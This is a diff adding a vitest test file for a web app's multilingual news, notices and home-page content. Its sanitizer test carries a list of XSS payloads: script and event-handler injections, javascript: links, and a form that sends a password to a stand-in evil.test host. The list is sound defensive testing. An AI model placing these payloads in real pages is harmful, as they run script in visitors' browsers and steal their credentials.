@@ -1,0 +1,262 @@
+import { languages, type Language } from '@btbc/contract/wire.ts'
+import { expect, test } from 'vitest'
+
+import { htmlOfLines, safeHtml } from '#modules/news/html.ts'
+import { articles, content } from '#modules/news/content/content.ts'
+import { type Article, saveArticle, seedContent } from '#modules/news/news.publish.ts'
+import { countUnreadNotices } from '#modules/news/news.ts'
+import { ok, refusal, startTestServer, type TestServer } from '#testing/server.ts'
+
+const slugs = [
+  ...(['info', 'info1', 'info2', 'info3', 'info4', 'about', 'terms', 'white-paper'] as const),
+  ...(['rules', 'activities', 'funds', 'miner-funds'] as const),
+]
+
+test('every article speaks every language, and no two languages say the same', async () => {
+  const server = await startTestServer()
+  for (const { id } of Object.values(articles)) {
+    const told = new Set<string>()
+    for (const lang of languages) {
+      const { title, content: html } = ok(await server.call('/news/detail', { id, lang }))
+      expect(title).not.toBe('')
+      expect(html).toMatch(/^<(p|h2|ul)>/)
+      told.add(html)
+    }
+    expect(told.size).toBe(languages.length)
+  }
+})
+
+test('a translation has the headings, items, links and numbers of the English text', () => {
+  const amounts = (text: string) =>
+    [...text.matchAll(/(\d[\d.,]*)\s?(BTBC|USDT|USD|BTC|BNB|%)/g)]
+      .map(([, number = '', unit]) => `${number.replaceAll(/\D/g, '')} ${unit}`)
+      .toSorted()
+  for (const [name, english] of Object.entries(content.en.articles)) {
+    for (const language of languages) {
+      const { body } = content[language].articles[name as keyof typeof articles]
+      const count = (pattern: RegExp) => body.match(pattern)?.length ?? 0
+      const wanted = (pattern: RegExp) => english.body.match(pattern)?.length ?? 0
+      for (const pattern of [/^\s*# /gm, /^\s*- /gm, /^\s*\S/gm]) {
+        expect([name, language, count(pattern)]).toEqual([name, language, wanted(pattern)])
+      }
+      const links = (text: string) => text.match(/\]\([^)]+\)/g)?.toSorted()
+      expect([name, language, links(body)]).toEqual([name, language, links(english.body)])
+      expect([name, language, amounts(body)]).toEqual([name, language, amounts(english.body)])
+    }
+  }
+})
+
+test('no text promises a profit or shouts', () => {
+  for (const { articles: texts, banners } of Object.values(content)) {
+    const all = JSON.stringify([texts, banners])
+    expect(all).not.toMatch(
+      /[!！]|guarantee|profit|hurry|coming soon|garantiz|ganancia segura|lucro/i,
+    )
+  }
+})
+
+test('the HTML of the first articles is safe as it stands', () => {
+  for (const { articles: texts } of Object.values(content)) {
+    for (const { body } of Object.values(texts)) {
+      const html = htmlOfLines(body)
+      expect(safeHtml(html)).toBe(html)
+    }
+  }
+})
+
+test('the notices come highest first, unread until the member reads them', async () => {
+  const server = await startTestServer()
+  const alice = await server.join('alice@example.com')
+  const unread = async () =>
+    await server.db.transaction().execute(async (tx) => await countUnreadNotices(tx, alice.id))
+  const list = async () => ok(await server.call('/news/list', { c_id: 4 }, { as: alice })).list
+
+  expect((await list()).map(({ id, read }) => [id, read])).toEqual([
+    [303, false],
+    [301, false],
+    [302, false],
+  ])
+  expect(await unread()).toBe(3)
+
+  ok(await server.call('/user/notices_read', { id: 301 }, { as: alice }))
+  ok(await server.call('/user/notices_read', { id: 301 }, { as: alice }))
+
+  expect((await list()).map(({ read }) => read)).toEqual([false, true, false])
+  expect(await unread()).toBe(2)
+  const others = ok(await server.call('/news/list', { c_id: 4 })).list
+  expect(others.every(({ read }) => !read)).toBe(true)
+})
+
+test('only a notice can be read, and only by a member', async () => {
+  const server = await startTestServer()
+  const alice = await server.join('alice@example.com')
+  const read = async (id: number) =>
+    refusal(await server.call('/user/notices_read', { id }, { as: alice }))
+  expect(await read(999)).toBe('article_not_found')
+  expect(await read(articles.opening.id)).toBe('article_not_found')
+  expect(refusal(await server.call('/user/notices_read', { id: 301 }))).toBe('login_required')
+})
+
+test('a list is paged, and an unknown category is empty', async () => {
+  const server = await startTestServer()
+  const page = async (number: number) =>
+    ok(await server.call('/news/list', { c_id: 5, limit: 2, page: number }))
+  const first = await page(1)
+  const second = await page(2)
+  expect([first.list.length, second.list.length, (await page(3)).list.length]).toEqual([2, 1, 0])
+  expect([first.total, first.page, first.limit]).toEqual([3, 1, 2])
+  expect(new Set([...first.list, ...second.list].map(({ id }) => id)).size).toBe(3)
+  expect(ok(await server.call('/news/list', { c_id: 77 }))).toMatchObject({ list: [], total: 0 })
+})
+
+test('what is not a category, a page or an article is refused', async () => {
+  const server = await startTestServer()
+  const detail = async (request: object) => refusal(await server.call('/news/detail', request))
+  expect(await detail({ id: 999 })).toBe('article_not_found')
+  expect(await detail({})).toBe('article_not_found')
+  expect(await detail({ id: 156, slug: 'info' })).toBe('article_not_found')
+  expect(await detail({ slug: 'secret' })).toBe('invalid_request')
+  expect(await detail({ id: -1 })).toBe('invalid_request')
+  expect(await detail({ id: 156, lang: 'xx' })).toBe('invalid_request')
+  const list = async (request: { c_id: number; limit?: number }) =>
+    refusal(await server.call('/news/list', request))
+  expect(await list({ c_id: 0 })).toBe('invalid_request')
+  expect(await list({ c_id: 4, limit: 201 })).toBe('invalid_request')
+})
+
+test('a page is found by its slug and by the ids of the seeds', async () => {
+  const server = await startTestServer()
+  const title = async (request: { id?: number; slug?: (typeof slugs)[number] }) =>
+    ok(await server.call('/news/detail', request)).title
+  for (const slug of slugs) expect(await title({ slug })).not.toBe('')
+  expect(await title({ id: 156 })).toBe(await title({ slug: 'funds' }))
+  expect(await title({ id: 196 })).toBe(await title({ slug: 'miner-funds' }))
+  expect(await title({ id: 163 })).toBe(await title({ id: 181 }))
+  expect(await title({ id: 165 })).toBe(await title({ id: 182 }))
+  expect(await title({ id: 180 })).toBe(await title({ slug: 'rules' }))
+})
+
+test('the language of the body wins over the header, and English is the last resort', async () => {
+  const server = await startTestServer()
+  const title = async (lang: Language | undefined, headers: Record<string, string>) =>
+    ok(await server.call('/news/detail', { id: 301, lang }, { headers })).title
+  const { zh, jp, bx, en } = content
+  expect(await title('zh', { lang: 'jp' })).toBe(zh.articles.howRunsWork.title)
+  expect(await title(undefined, { lang: 'jp' })).toBe(jp.articles.howRunsWork.title)
+  expect(await title(undefined, { 'accept-language': 'pt-BR' })).toBe(bx.articles.howRunsWork.title)
+  expect(await title(undefined, { lang: 'xx' })).toBe(en.articles.howRunsWork.title)
+})
+
+test('home has three banners, the notices and eight contacts in every language', async () => {
+  const server = await startTestServer()
+  for (const lang of languages) {
+    const home = ok(await server.call('/content/home', { lang }))
+    expect(home.banners.map(({ to }) => to)).toEqual(['/share', '/assets3', '/Kefu'])
+    expect(home.banners.map(({ alt }) => alt)).toEqual(Object.values(content[lang].banners))
+    expect(home.ticker.map(({ id }) => id)).toEqual([303, 301, 302])
+    expect(home.contacts).toHaveLength(8)
+    for (const { name, url } of home.contacts) {
+      expect(name).toContain('TEST')
+      expect(url).toMatch(/^(https:\/\/(t|wa)\.me\/|mailto:[\w-]+@btbc\.test$)/)
+    }
+  }
+})
+
+test('a second start changes nothing an operator has edited', async () => {
+  const server = await startTestServer()
+  await save(server, { ...draft('<p>Edited</p>'), id: 301, c_id: 4 })
+  await server.db.transaction().execute(async (tx) => {
+    await seedContent(tx, server.clock.now())
+  })
+  const { title, content: html } = ok(await server.call('/news/detail', { id: 301 }))
+  expect([title, html]).toEqual(['Draft', '<p>Edited</p>'])
+  expect(ok(await server.call('/content/home')).contacts).toHaveLength(8)
+})
+
+/** What came in, and nothing of it may come out. */
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="https://evil.test/pixel.gif">',
+  '<img src="//evil.test/pixel.gif">',
+  '<img src="/media/../api/x">',
+  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  '<svg onload=alert(1)></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href=" &#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.test">x</a>',
+  '<a href="http://evil.test">x</a>',
+  '<p onclick="alert(1)" style="position:fixed;inset:0">x</p>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.test"><input name=password><button>x</button></form>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href="https://evil.test/x.css">',
+  '<meta http-equiv=refresh content="0;url=https://evil.test">',
+  '<base href="https://evil.test/">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<!--<img src="--><img src=x onerror=alert(1)>">',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<template><script>alert(1)</script></template>',
+]
+
+test('an article keeps its text and loses whatever could act', async () => {
+  const server = await startTestServer()
+  for (const attack of attacks) {
+    await save(server, draft(`<p>Before</p>${attack}<p>After</p>`))
+    const { content: html } = ok(await server.call('/news/detail', { id: 900 }))
+    expect([attack, html]).toEqual([attack, expect.stringContaining('<p>Before</p>')])
+    expect([attack, actingParts(html)]).toEqual([attack, []])
+  }
+})
+
+test('links, tables and own pictures survive; a link away opens apart', async () => {
+  const kept =
+    '<h2>T</h2><p><strong>a</strong> <em>b</em> <a href="/info1">in</a></p>' +
+    '<ul><li>1</li></ul><table><tbody><tr><th scope="row">x</th><td>y</td></tr></tbody></table>' +
+    '<img src="/media/article-run.svg" alt="run" />'
+  expect(safeHtml(kept)).toBe(kept)
+  expect(safeHtml('<a href="https://example.org/" onclick="x()">out</a>')).toBe(
+    '<a href="https://example.org/" rel="noopener noreferrer" target="_blank">out</a>',
+  )
+})
+
+/** Tags and attributes outside the allow-list, and addresses that are not ours or https. */
+function actingParts(html: string): string[] {
+  const tags = [...html.matchAll(/<\/?([a-z]+)((?:\s[^<>]*)?)>/gi)]
+  const foreign = tags.filter(
+    ([, tag = '']) => !/^(h2|p|br|ul|li|strong|em|a|img|table|tbody|tr|th|td)$/.test(tag),
+  )
+  const attributes = tags.flatMap(([, , all = '']) => [...all.matchAll(/([\w-]+)="([^"]*)"/g)])
+  const acting = attributes.filter(
+    ([, name = '', value = '']) =>
+      !/^(href|rel|target|alt|src)$/.test(name) ||
+      (/^(href|src)$/.test(name) && !/^(https:\/\/|mailto:|\/(?!\/))/.test(value)) ||
+      (name === 'src' && /evil|\.\./.test(value)),
+  )
+  return [...foreign, ...acting].map(([whole]) => whole)
+}
+
+function draft(html: string): Article {
+  const text = { title: 'Draft', summary: '', html }
+  const texts = Object.fromEntries(
+    languages.map((language) => [language, text]),
+  ) as Article['texts']
+  return { id: 900, slug: null, c_id: null, sorts: 0, thumbnail: '', texts }
+}
+
+async function save(server: TestServer, article: Article): Promise<void> {
+  await server.db.transaction().execute(async (tx) => {
+    await saveArticle(tx, article, server.clock.now())
+  })
+}
